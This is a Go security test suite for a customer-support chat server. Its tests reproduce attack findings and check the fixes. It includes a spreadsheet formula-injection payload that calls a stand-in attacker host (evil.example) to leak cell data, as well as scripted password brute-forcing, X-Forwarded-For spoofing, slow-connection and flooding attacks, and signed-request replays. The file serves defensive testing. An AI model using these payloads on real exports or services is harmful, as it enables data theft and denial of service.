package main

// The security suite (issue 15): each test reproduces one finding of a hostile test against the
// real server (serve) on a loopback port, with bounded loops, and checks the fix. Run them alone
// with `go test ./cmd/kefu -run Security`.

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
	"golang.org/x/crypto/bcrypt"

	"github.com/kefu-dev/kefu/adapters/slack/slacktest"
	"github.com/kefu-dev/kefu/adapters/telegram/telegramtest"
	"github.com/kefu-dev/kefu/bot"
	"github.com/kefu-dev/kefu/console"
	"github.com/kefu-dev/kefu/storage"
	"github.com/kefu-dev/kefu/storage/storetest"
)

var securityCSRF = regexp.MustCompile(`name="csrf" value="([^"]+)"`)

// consoleClient signs in to the server's console as a new account of role and returns the client.
func consoleClient(t *testing.T, s *journeyServer, name, role, pw string) *http.Client {
	t.Helper()
	hash, err := console.HashPassword(pw, bcrypt.MinCost)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.db.CreateUser(context.Background(), storage.User{Name: name, Role: role, PasswordHash: hash}); err != nil {
		t.Fatal(err)
	}
	jar, _ := cookiejar.New(nil)
	c := &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	code, _ := consoleSignIn(t, c, s.url, name, pw)
	if code != http.StatusSeeOther {
		t.Fatalf("sign in as %s: %d", name, code)
	}
	return c
}

// consoleSignIn posts the sign-in form (fetching its CSRF token first) and returns the status and body.
func consoleSignIn(t testing.TB, c *http.Client, base, name, pw string, hdr ...string) (int, string) {
	t.Helper()
	resp, err := c.Get(base + "/console/login")
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	m := securityCSRF.FindStringSubmatch(string(b))
	if m == nil {
		t.Fatalf("no csrf token on the sign-in page: %s", b)
	}
	form := url.Values{"csrf": {m[1]}, "name": {name}, "password": {pw}}
	req, _ := http.NewRequest(http.MethodPost, base+"/console/login", strings.NewReader(form.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	for i := 0; i+1 < len(hdr); i += 2 {
		req.Header.Set(hdr[i], hdr[i+1])
	}
	resp, err = c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b, _ = io.ReadAll(resp.Body)
	resp.Body.Close()
	return resp.StatusCode, string(b)
}

// checkNoFormula fails when any cell begins with a character a spreadsheet takes as a formula.
func checkNoFormula(t *testing.T, what string, rows [][]string, planted string) {
	t.Helper()
	found := false
	for _, row := range rows {
		for _, cell := range row {
			if strings.Contains(cell, planted) {
				found = true
			}
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("%s: cell %q would be evaluated as a formula", what, cell)
			}
		}
	}
	if !found {
		t.Errorf("%s: the customer's text %q is missing (rows %q)", what, planted, rows)
	}
}

// TestSecurityCSVFormulaInjection (finding 1): a customer's formula in a ticket's description and
// survey comment must reach the exports as text, neutralized, in the CLI's CSV and .xlsx and the
// console's CSV.
func TestSecurityCSVFormulaInjection(t *testing.T) {
	dsn := filepath.Join(t.TempDir(), "kefu.db")
	s := startJourneyServer(t, dsn, nil, nil)
	const evil = `=HYPERLINK("http://evil.example/?x="&C2,"点击")`
	// As in the finding: the formula, then 转人工 (the ticket's summary and description are the formula).
	sess, no := handoff(t, s.e2eServer, evil)
	r := []reply{s.poll(sess, 0, no)}
	s.cli("claim", no)
	s.cli("reply", no, "您好，马上处理")
	s.cli("resolve", no, "--", "-1+1 更换电机") // text that begins with "-" goes after --
	ask := s.poll(sess, r[len(r)-1].ID, no)
	r = s.say(sess, []reply{ask}, "!已解决")
	r = s.say(sess, r, "!4")
	s.say(sess, r, "@SUM(1+1) 师傅很专业")
	if show := s.cli("show", no); !strings.Contains(show, "@SUM(1+1)") {
		t.Fatalf("the survey comment did not reach the ticket:\n%s", show)
	}

	env := dbEnv(dsn)
	var out bytes.Buffer
	csvPath := filepath.Join(t.TempDir(), "t.csv")
	if err := runExport(context.Background(), []string{"tickets", "--from", "2000-01-01", "--to", "2100-01-01", "--format", "csv", "-o", csvPath}, &out, env); err != nil {
		t.Fatal(err)
	}
	checkNoFormula(t, "kefu export tickets --format csv", readCSV(t, mustRead(t, csvPath)), "HYPERLINK")

	xlsxPath := filepath.Join(t.TempDir(), "t.xlsx")
	if err := runExport(context.Background(), []string{"tickets", "--from", "2000-01-01", "--to", "2100-01-01", "-o", xlsxPath}, &out, env); err != nil {
		t.Fatal(err)
	}
	x, err := excelize.OpenFile(xlsxPath)
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	for _, sheet := range []string{"Tickets", "Events"} {
		rows, err := x.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		checkNoFormula(t, "xlsx sheet "+sheet, rows, "HYPERLINK")
	}

	c := consoleClient(t, s, "sup", "supervisor", "sup-password-1")
	resp, err := c.Get(s.url + "/console/export/tickets?from=2000-01-01&to=2100-01-01")
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("console CSV: %d %s", resp.StatusCode, b)
	}
	rows := readCSV(t, string(b))
	if !strings.Contains(string(b), `'=HYPERLINK`) || !strings.Contains(string(b), "'@SUM") {
		t.Errorf("console CSV: want the formulas quoted as text ('=HYPERLINK, '@SUM):\n%s", b)
	}
	checkNoFormula(t, "console CSV", rows, "HYPERLINK")
	checkNoFormula(t, "console CSV", rows, "@SUM(1+1)")
}

// handoff is a web chat customer who says first, then asks for a person (转人工), skipping the
// optional questions; it returns the session and the ticket number.
func handoff(t *testing.T, s *e2eServer, first string) (string, string) {
	t.Helper()
	sess := s.session()
	s.say(sess, nil, first)
	r := s.say(sess, nil, "转人工")
	for i := 0; i < 3 && ticketNo.FindString(r[len(r)-1].Text) == ""; i++ {
		if !hasButton(r, "跳过") {
			t.Fatalf("no ticket and nothing to skip in %+v", r)
		}
		r = s.say(sess, r, "!跳过")
	}
	no := ticketNo.FindString(r[len(r)-1].Text)
	if no == "" {
		t.Fatalf("no ticket number in %+v", r)
	}
	return sess, no
}

func readCSV(t *testing.T, s string) [][]string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(s, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func mustRead(t *testing.T, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// logBuffer collects a server's log lines (safe for concurrent writers).
type logBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *logBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *logBuffer) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}

// securityServer runs serve on a fresh SQLite database with mod applied to the default
// configuration, logging JSON into the returned buffer.
func securityServer(t *testing.T, mod func(*Config)) (*journeyServer, *logBuffer) {
	s, logs, _ := securityServerBanner(t, mod)
	return s, logs
}

// securityServerBanner is securityServer that also returns what serve printed for people (the banner).
func securityServerBanner(t *testing.T, mod func(*Config)) (*journeyServer, *logBuffer, *logBuffer) {
	t.Helper()
	dsn := filepath.Join(t.TempDir(), "kefu.db")
	cfg, err := loadConfig("", func(k string) string {
		if k == "KEFU_DATABASE_URL" {
			return dsn
		}
		return ""
	})
	if err != nil {
		t.Fatal(err)
	}
	cfg.Outbox.PollInterval = 20 * time.Millisecond
	if mod != nil {
		mod(&cfg)
	}
	dsn = cfg.DatabaseURL
	logs := &logBuffer{}
	logger := slog.New(slog.NewJSONHandler(logs, &slog.HandlerOptions{Level: slog.LevelDebug}))
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	banner := &logBuffer{}
	go func() { done <- serve(ctx, cfg, ln, logger, banner) }()
	s := &e2eServer{t: t, url: "http://" + ln.Addr().String(), dbURL: dsn}
	s.stop = func() {
		cancel()
		select {
		case <-done:
		case <-time.After(15 * time.Second):
			t.Error("serve did not stop within 15s of cancel")
		}
	}
	t.Cleanup(s.stop)
	waitFor(t, "server ready", func() bool {
		resp, err := http.Get(s.url + "/healthz")
		if err != nil {
			return false
		}
		resp.Body.Close()
		return resp.StatusCode == http.StatusOK
	})
	return &journeyServer{e2eServer: s, db: openTestDB(t, dsn)}, logs, banner
}

// TestSecuritySignInBackoff (finding 2): parallel wrong passwords are not all evaluated; afterwards
// the real user (another client behind the trusted proxy) signs in after a short delay at most,
// another user from the proxy at once; X-Forwarded-For from an untrusted peer is ignored; the log
// never holds the typed user name.
func TestSecuritySignInBackoff(t *testing.T) {
	s, logs := securityServer(t, func(c *Config) { c.Security.TrustedProxies = []string{"127.0.0.1"} })
	for _, u := range []string{"victim", "bystander"} {
		hash, _ := console.HashPassword("right-password-"+u, bcrypt.MinCost)
		if _, err := s.db.CreateUser(context.Background(), storage.User{Name: u, Role: "agent", PasswordHash: hash}); err != nil {
			t.Fatal(err)
		}
	}
	newClient := func() *http.Client {
		jar, _ := cookiejar.New(nil)
		return &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	}
	const attacker = "198.51.100.66"
	var wg sync.WaitGroup
	var mu sync.Mutex
	codes := map[int]int{}
	for i := 0; i < 40; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			code, _ := consoleSignIn(t, newClient(), s.url, "victim", fmt.Sprintf("guess-%02d-password", i), "X-Forwarded-For", attacker)
			mu.Lock()
			codes[code]++
			mu.Unlock()
		}()
	}
	wg.Wait()
	if codes[http.StatusUnauthorized] > 4 || codes[http.StatusUnauthorized]+codes[http.StatusTooManyRequests] != 40 {
		t.Errorf("40 parallel guesses: %v; want at most 4 evaluated (401), the rest 429", codes)
	}

	// Another user behind the same proxy, another client: not slowed at all.
	if code, _ := consoleSignIn(t, newClient(), s.url, "bystander", "right-password-bystander", "X-Forwarded-For", "203.0.113.9"); code != http.StatusSeeOther {
		t.Errorf("another user from another client after the attack: %d, want 303", code)
	}
	// The real user from their own client: in within a short delay (the account's cap is 10 s).
	start := time.Now()
	for {
		code, _ := consoleSignIn(t, newClient(), s.url, "victim", "right-password-victim", "X-Forwarded-For", "203.0.113.10")
		if code == http.StatusSeeOther {
			break
		}
		if code != http.StatusTooManyRequests || time.Since(start) > 12*time.Second {
			t.Fatalf("the real user after %v: %d, want a sign-in within the short account delay", time.Since(start), code)
		}
		time.Sleep(250 * time.Millisecond)
	}
	// The attacking client stays slowed down: of two quick guesses at most one is evaluated.
	consoleSignIn(t, newClient(), s.url, "bystander", "wrong-password", "X-Forwarded-For", attacker)
	if code, _ := consoleSignIn(t, newClient(), s.url, "bystander", "wrong-password", "X-Forwarded-For", attacker); code != http.StatusTooManyRequests {
		t.Errorf("the attacking client's second quick guess after the attack: %d, want 429", code)
	}

	// No trusted proxy: a client cannot choose its address with X-Forwarded-For.
	s2, _ := securityServer(t, nil)
	spoofed := map[int]int{}
	for i := 0; i < 8; i++ {
		code, _ := consoleSignIn(t, newClient(), s2.url, fmt.Sprintf("nobody%d", i), "wrong-password", "X-Forwarded-For", fmt.Sprintf("192.0.2.%d", i))
		spoofed[code]++
	}
	if spoofed[http.StatusTooManyRequests] == 0 {
		t.Errorf("spoofed X-Forwarded-For without trusted proxies: %v; want the client slowed down (429)", spoofed)
	}

	// The typed user name never reaches the log verbatim.
	const typed = "Tr0ub4dor&3-typed-into-the-name-field"
	consoleSignIn(t, newClient(), s.url, typed, "whatever-password", "X-Forwarded-For", "203.0.113.77")
	waitWithin(t, 5*time.Second, "the failed sign-in in the log", func() bool { return strings.Contains(logs.String(), "sign-in failed") })
	if strings.Contains(logs.String(), typed) || strings.Contains(logs.String(), "Tr0ub4dor") {
		t.Errorf("the typed user name is in the log:\n%s", logs.String())
	}
}

// TestSecuritySlowClients (finding 5): idle keep-alive connections and bodies trickled a byte at a
// time are cut off by the server's timeouts, and open connections are capped.
func TestSecuritySlowClients(t *testing.T) {
	s, _ := securityServer(t, func(c *Config) {
		c.Security.HTTP.ReadTimeout = time.Second
		c.Security.HTTP.IdleTimeout = time.Second
		c.Security.HTTP.MaxConnections = 5
	})
	addr := strings.TrimPrefix(s.url, "http://")
	closedWithin := func(c net.Conn, d time.Duration) bool {
		c.SetReadDeadline(time.Now().Add(d))
		buf := make([]byte, 4096)
		for {
			if _, err := c.Read(buf); err != nil {
				var ne net.Error
				return !(errors.As(err, &ne) && ne.Timeout()) // EOF or reset: the server closed it
			}
		}
	}

	// An idle keep-alive connection after one request.
	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	fmt.Fprintf(c, "GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
	if !closedWithin(c, 4*time.Second) {
		t.Error("an idle keep-alive connection stayed open past the idle timeout")
	}

	// A body trickled one byte every 300 ms (Content-Length 100 would take 30 s).
	c2, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c2.Close()
	fmt.Fprintf(c2, "POST /api/webchat/sessions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n")
	start := time.Now()
	for i := 0; i < 20; i++ { // bounded: 6 s at most
		if _, err := c2.Write([]byte(" ")); err != nil {
			break
		}
		time.Sleep(300 * time.Millisecond)
	}
	if !closedWithin(c2, 2*time.Second) || time.Since(start) > 7*time.Second {
		t.Errorf("a trickled body kept its connection for %v, want it cut at the read timeout", time.Since(start))
	}

	// The connection cap: 5 silent connections hold every slot; a sixth request waits until one goes.
	var held []net.Conn
	for i := 0; i < 5; i++ {
		hc, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		defer hc.Close()
		held = append(held, hc)
	}
	time.Sleep(100 * time.Millisecond) // let the server accept them
	quick := &http.Client{Timeout: 300 * time.Millisecond, Transport: &http.Transport{DisableKeepAlives: true}}
	if resp, err := quick.Get(s.url + "/healthz"); err == nil {
		resp.Body.Close()
		t.Error("a sixth connection was served while 5 (the cap) were open")
	}
	for _, hc := range held {
		hc.Close()
	}
	waitWithin(t, 5*time.Second, "a request after the held connections closed", func() bool {
		resp, err := quick.Get(s.url + "/healthz")
		if err != nil {
			return false
		}
		resp.Body.Close()
		return resp.StatusCode == http.StatusOK
	})
}

// postWebMessage posts text to a web chat session, optionally as the client at xff (behind the trusted
// proxy), and returns the status.
func postWebMessage(t *testing.T, c *http.Client, base, sess, text, xff string) int {
	t.Helper()
	b, _ := json.Marshal(map[string]string{"session": sess, "text": text})
	req, _ := http.NewRequest(http.MethodPost, base+"/api/webchat/messages", bytes.NewReader(b))
	req.Header.Set("Content-Type", "application/json")
	if xff != "" {
		req.Header.Set("X-Forwarded-For", xff)
	}
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	return resp.StatusCode
}

// newWebSession makes a web chat session as the client at xff and returns it ("" and the status when refused).
func newWebSession(t *testing.T, c *http.Client, base, xff string) (string, int) {
	t.Helper()
	req, _ := http.NewRequest(http.MethodPost, base+"/api/webchat/sessions", strings.NewReader("{}"))
	req.Header.Set("Content-Type", "application/json")
	if xff != "" {
		req.Header.Set("X-Forwarded-For", xff)
	}
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var r struct{ Session string }
	json.NewDecoder(resp.Body).Decode(&r)
	return r.Session, resp.StatusCode
}

// TestSecurityWebChatFlood (findings 3 and 4), with the default limits: over-long messages are
// refused before anything is stored; one session, and one client over many sessions, are rate
// limited; a client making sessions flat out does not stop other clients from starting a chat.
func TestSecurityWebChatFlood(t *testing.T) {
	s, _ := securityServer(t, func(c *Config) { c.Security.TrustedProxies = []string{"127.0.0.1"} })
	c := &http.Client{Transport: &http.Transport{MaxIdleConnsPerHost: 16}}
	stored := func() int64 {
		var n int64
		if err := s.db.Gorm().Raw("SELECT COUNT(*) FROM messages WHERE direction = 'in'").Scan(&n).Error; err != nil {
			t.Fatal(err)
		}
		return n
	}

	// Finding 3: 30 × 60 KB from one session.
	sess, _ := newWebSession(t, c, s.url, "198.51.100.1")
	big := strings.Repeat("长", 20000) // 60 000 bytes
	codes := map[int]int{}
	for i := 0; i < 30; i++ {
		codes[postWebMessage(t, c, s.url, sess, big, "198.51.100.1")]++
	}
	if codes[http.StatusRequestEntityTooLarge] != 30 {
		t.Errorf("30 × 60 KB: %v, want 30 × 413", codes)
	}
	if n := stored(); n != 0 {
		t.Errorf("%d over-long messages were stored, want none", n)
	}
	// One session flat out: the per-session limit answers 429.
	codes = map[int]int{}
	for i := 0; i < 40; i++ {
		codes[postWebMessage(t, c, s.url, sess, fmt.Sprintf("你好 %d", i), "198.51.100.1")]++
	}
	if codes[http.StatusTooManyRequests] == 0 || codes[http.StatusOK] == 0 {
		t.Errorf("40 quick messages from one session: %v, want some 200 then 429", codes)
	}
	// One client over many sessions: the per-client limit answers 429.
	codes = map[int]int{}
	for i := 0; i < 10; i++ {
		sx, code := newWebSession(t, c, s.url, "198.51.100.2")
		if code != http.StatusCreated {
			t.Fatalf("session %d: %d", i, code)
		}
		for j := 0; j < 15; j++ {
			codes[postWebMessage(t, c, s.url, sx, "你好", "198.51.100.2")]++
		}
	}
	if codes[http.StatusTooManyRequests] == 0 {
		t.Errorf("150 quick messages over 10 sessions of one client: %v, want the client limited (429)", codes)
	}

	// Finding 4: a client making sessions flat out; real customers from other addresses get theirs.
	for i := 0; i < 80; i++ {
		newWebSession(t, c, s.url, "198.51.100.3")
	}
	if _, code := newWebSession(t, c, s.url, "198.51.100.3"); code != http.StatusTooManyRequests {
		t.Errorf("the flooding client's next session: %d, want 429", code)
	}
	for i := 0; i < 10; i++ {
		if _, code := newWebSession(t, c, s.url, fmt.Sprintf("203.0.113.%d", i+1)); code != http.StatusCreated {
			t.Errorf("real customer %d during the flood: %d, want 201", i, code)
		}
	}
}

// TestSecuritySlackReplay (finding 9): a captured, correctly signed `/kefu reply` replayed within
// Slack's 5-minute window does not run again — the customer gets the reply once — and a replayed
// interaction (the Claim button) is ignored too.
func TestSecuritySlackReplay(t *testing.T) {
	f := slacktest.NewServer(t)
	s := startSlackServer(t, dsnSQLite(t), f)
	sess, no := handoff(t, s.e2eServer, "洗衣机滚筒不转了，没法洗衣服，希望尽快上门维修")
	journeyKefuCommand(t, s, f, slackAgent1, "claim "+no)

	const text = "您好，师傅明天上午上门（只发一次）"
	at := time.Now()
	body := slacktest.CommandBody(slackAgent1, slackTeamCh, "reply "+no+" "+text, f.ResponseURL("r1"))
	for i := 0; i < 3; i++ { // the original, then two replays of the same signed request
		if code, out := journeySlackPost(t, s, "/slack/commands", slackFormType, body, at, slackSecret); code != http.StatusOK {
			t.Fatalf("/kefu reply (try %d): %d %s", i, code, out)
		}
	}
	waitFor(t, "the reply in the web chat", func() bool { return strings.Contains(journeyWebMessages(t, s, sess), text) })
	time.Sleep(300 * time.Millisecond) // a replay's reply would be enqueued by now
	if n := strings.Count(journeyWebMessages(t, s, sess), text); n != 1 {
		t.Errorf("the customer got the reply %d times, want once", n)
	}
	_, evs := s.ticketEvents(t, no)
	replies := 0
	for _, e := range evs {
		if strings.Contains(e.Text, text) {
			replies++
		}
	}
	if replies != 1 {
		t.Errorf("%d reply events, want 1", replies)
	}

	// An interaction (the other agent presses Claim), replayed with its signature.
	claim := slacktest.InteractionBody(slacktest.ButtonPayload(slackAgent2, slackTeamCh, "kefu_claim", no))
	at = time.Now()
	before := len(f.Called("response_url")) + len(f.Called("chat.postEphemeral"))
	journeySlackPost(t, s, "/slack/interactions", slackFormType, claim, at, slackSecret)
	waitFor(t, "an answer to the claim", func() bool {
		return len(f.Called("response_url"))+len(f.Called("chat.postEphemeral")) > before
	})
	after := len(f.Called("response_url")) + len(f.Called("chat.postEphemeral"))
	journeySlackPost(t, s, "/slack/interactions", slackFormType, claim, at, slackSecret)
	time.Sleep(300 * time.Millisecond)
	if n := len(f.Called("response_url")) + len(f.Called("chat.postEphemeral")); n != after {
		t.Errorf("a replayed interaction was handled again (%d answers, want %d)", n, after)
	}
}

// TestSecurityConsoleOdds (finding 10): a password over bcrypt's 72 bytes is refused with 400, not
// 500; user names are unique regardless of case; /console/assets/ lists nothing.
func TestSecurityConsoleOdds(t *testing.T) {
	s, _ := securityServer(t, nil)
	c := consoleClient(t, s, "boss", "admin", "boss-password-1")
	resp, err := c.Get(s.url + "/console/users")
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	m := securityCSRF.FindStringSubmatch(string(b))
	if m == nil {
		t.Fatalf("no csrf token on the users page: %d", resp.StatusCode)
	}
	add := func(name, pw string) int {
		resp, err := c.PostForm(s.url+"/console/users", url.Values{"csrf": {m[1]}, "name": {name}, "role": {"agent"}, "password": {pw}})
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp.StatusCode
	}
	if code := add("longpw", strings.Repeat("密", 30)); code != http.StatusBadRequest { // 90 bytes
		t.Errorf("a 90-byte password: %d, want 400", code)
	}
	if code := add("carol", "carol-password"); code != http.StatusOK {
		t.Fatalf("add carol: %d", code)
	}
	if code := add("CAROL", "carol-password"); code != http.StatusConflict {
		t.Errorf("CAROL beside carol: %d, want 409", code)
	}
	for _, path := range []string{"/console/assets/", "/console/assets"} {
		resp, err := http.Get(s.url + path)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode == http.StatusOK || strings.Contains(string(b), "<a href") {
			t.Errorf("GET %s: %d, lists the directory:\n%s", path, resp.StatusCode, b)
		}
	}
}

// TestSecurityFirstAdminPassword (finding 8): the generated first admin password never enters the
// log stream (JSON logs, no terminal); it is in a 0600 file next to the database, and the console
// shows nothing but the change form until the admin picks their own.
func TestSecurityFirstAdminPassword(t *testing.T) {
	s, logs, banner := securityServerBanner(t, func(c *Config) { c.Log.Format = "json" })
	// beside the encryption key file: next to the SQLite file, or KEFU_ENCRYPTION_KEY_FILE's directory
	m0 := regexp.MustCompile(`the password is in (\S+) `).FindStringSubmatch(banner.String())
	if m0 == nil || filepath.Base(m0[1]) != initialPasswordFile {
		t.Fatalf("the banner does not say where the password is: %q", banner.String())
	}
	file := m0[1]
	st, err := os.Stat(file)
	if err != nil {
		t.Fatalf("no initial password file: %v (banner %q)", err, banner.String())
	}
	if st.Mode().Perm() != 0o600 {
		t.Errorf("password file mode %v, want 0600", st.Mode().Perm())
	}
	lines := strings.Fields(mustRead(t, file))
	if len(lines) != 2 || lines[0] != "admin" || len(lines[1]) < 16 {
		t.Fatalf("password file %q", lines)
	}
	pw := lines[1]
	if strings.Contains(logs.String(), pw) || strings.Contains(banner.String(), pw) {
		t.Fatal("the generated password reached the log or the banner")
	}
	if !strings.Contains(banner.String(), file) {
		t.Errorf("the banner does not say where the password is: %q", banner.String())
	}

	jar, _ := cookiejar.New(nil)
	c := &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	code, _ := consoleSignIn(t, c, s.url, "admin", pw)
	if code != http.StatusSeeOther {
		t.Fatalf("first sign-in: %d", code)
	}
	for _, path := range []string{"/console/", "/console/users", "/console/export/tickets"} {
		resp, err := c.Get(s.url + path)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusSeeOther || resp.Header.Get("Location") != "/console/password" {
			t.Errorf("GET %s before the change: %d %q, want a redirect to /console/password", path, resp.StatusCode, resp.Header.Get("Location"))
		}
	}
	resp, err := c.Get(s.url + "/console/password")
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	m := securityCSRF.FindStringSubmatch(string(b))
	if resp.StatusCode != http.StatusOK || m == nil {
		t.Fatalf("password page: %d", resp.StatusCode)
	}
	change := func(cur, pw, again string) int {
		resp, err := c.PostForm(s.url+"/console/password", url.Values{"csrf": {m[1]}, "current": {cur}, "password": {pw}, "repeat": {again}})
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp.StatusCode
	}
	if code := change("wrong", "my-own-password", "my-own-password"); code != http.StatusBadRequest {
		t.Errorf("change with a wrong current password: %d, want 400", code)
	}
	if code := change(pw, "my-own-password", "my-own-password"); code != http.StatusOK {
		t.Fatalf("change: %d", code)
	}
	if _, err := os.Stat(file); !os.IsNotExist(err) {
		t.Errorf("the initial password file is still there after the change: %v", err)
	}
	if code, _ := consoleSignIn(t, c, s.url, "admin", pw); code == http.StatusSeeOther {
		t.Error("the generated password still signs in")
	}
	if code, _ := consoleSignIn(t, c, s.url, "admin", "my-own-password"); code != http.StatusSeeOther {
		t.Fatalf("sign in with the new password: %d", code)
	}
	resp, err = c.Get(s.url + "/console/")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Errorf("dashboard after the change: %d, want 200", resp.StatusCode)
	}
}

// pgProxy forwards a Unix socket to the test PostgreSQL server's socket; down cuts every connection
// and refuses new ones (a database outage as the server sees it), up restores it.
type pgProxy struct {
	t      *testing.T
	dir    string
	target string
	mu     sync.Mutex
	ln     net.Listener
	conns  []net.Conn
}

// newPGProxy returns a proxy (up) and a DSN of a fresh schema reached through it; it skips the test
// without PostgreSQL (the outage is PostgreSQL's: SQLite is a file).
func newPGProxy(t *testing.T) (*pgProxy, string) {
	dsn, _ := storetest.PostgresSchemaDSN(t) // skips without KEFU_TEST_POSTGRES_DSN
	var host string
	for _, f := range strings.Fields(dsn) {
		if v, ok := strings.CutPrefix(f, "host="); ok {
			host = v
		}
	}
	if !strings.HasPrefix(host, "/") {
		t.Skip("the outage test needs the Unix-socket PostgreSQL of scripts/with-postgres.sh")
	}
	dir, err := os.MkdirTemp("", "kpx")
	if err != nil {
		t.Fatal(err)
	}
	p := &pgProxy{t: t, dir: dir, target: filepath.Join(host, ".s.PGSQL.5432")}
	t.Cleanup(func() { p.down(); os.RemoveAll(dir) })
	p.up()
	return p, strings.Replace(dsn, "host="+host, "host="+dir, 1)
}

func (p *pgProxy) up() {
	ln, err := net.Listen("unix", filepath.Join(p.dir, ".s.PGSQL.5432"))
	if err != nil {
		p.t.Fatal(err)
	}
	p.mu.Lock()
	p.ln = ln
	p.mu.Unlock()
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			u, err := net.Dial("unix", p.target)
			if err != nil {
				c.Close()
				continue
			}
			p.mu.Lock()
			p.conns = append(p.conns, c, u)
			p.mu.Unlock()
			go func() { io.Copy(u, c); u.Close() }()
			go func() { io.Copy(c, u); c.Close() }()
		}
	}()
}

func (p *pgProxy) down() {
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.ln != nil {
		p.ln.Close()
		p.ln = nil
	}
	for _, c := range p.conns {
		c.Close()
	}
	p.conns = nil
}

// TestSecurityDatabaseOutage (finding 7): while PostgreSQL is unreachable the web chat API answers
// 503 with Retry-After (not 500 "internal"), the outage is logged once and its end once, not one
// ERROR per request; afterwards the chat works again.
func TestSecurityDatabaseOutage(t *testing.T) {
	p, dsn := newPGProxy(t)
	s, logs := securityServer(t, func(c *Config) {
		c.DatabaseURL = dsn
		c.Web.MessagesPerSecond, c.Web.ClientMessagesPerSecond, c.Web.SessionsPerSecond = -1, -1, -1 // not this test
	})
	c := &http.Client{Timeout: 10 * time.Second}
	sess, code := newWebSession(t, c, s.url, "")
	if code != http.StatusCreated || postWebMessage(t, c, s.url, sess, "你好", "") != http.StatusOK {
		t.Fatalf("before the outage: session %d", code)
	}

	p.down()
	const n = 20
	for i := 0; i < n; i++ {
		b, _ := json.Marshal(map[string]string{"session": sess, "text": fmt.Sprintf("在吗 %d", i)})
		resp, err := c.Post(s.url+"/api/webchat/messages", "application/json", bytes.NewReader(b))
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusServiceUnavailable || resp.Header.Get("Retry-After") == "" {
			t.Fatalf("message %d during the outage: %d, Retry-After %q; want 503 with Retry-After", i, resp.StatusCode, resp.Header.Get("Retry-After"))
		}
		if _, code := newWebSession(t, c, s.url, ""); code != http.StatusServiceUnavailable {
			t.Fatalf("new session %d during the outage: %d, want 503", i, code)
		}
	}
	during := logs.String()
	if k := strings.Count(during, "database unavailable"); k != 1 {
		t.Errorf("the outage was logged %d times, want once", k)
	}
	perRequest := 0
	for _, line := range strings.Split(during, "\n") {
		if strings.Contains(line, `"level":"ERROR"`) && (strings.Contains(line, `"adapter":"web"`) || strings.Contains(line, "deliver failed")) {
			perRequest++
		}
	}
	if perRequest > 0 {
		t.Errorf("%d per-request ERROR lines during the outage, want none", perRequest)
	}

	p.up()
	waitWithin(t, 20*time.Second, "the chat to work after the outage", func() bool {
		return postWebMessage(t, c, s.url, sess, "恢复了吗", "") == http.StatusOK
	})
	waitWithin(t, 5*time.Second, "the end of the outage in the log", func() bool {
		return strings.Count(logs.String(), "database available again") == 1
	})
}

// TestSecurityDegradedStart (finding 6): with Slack's and Telegram's APIs unreachable at start,
// `kefu serve` still starts and the web chat works; /readyz says which platform is unreachable; when
// Telegram comes back it is connected in the background without a restart.
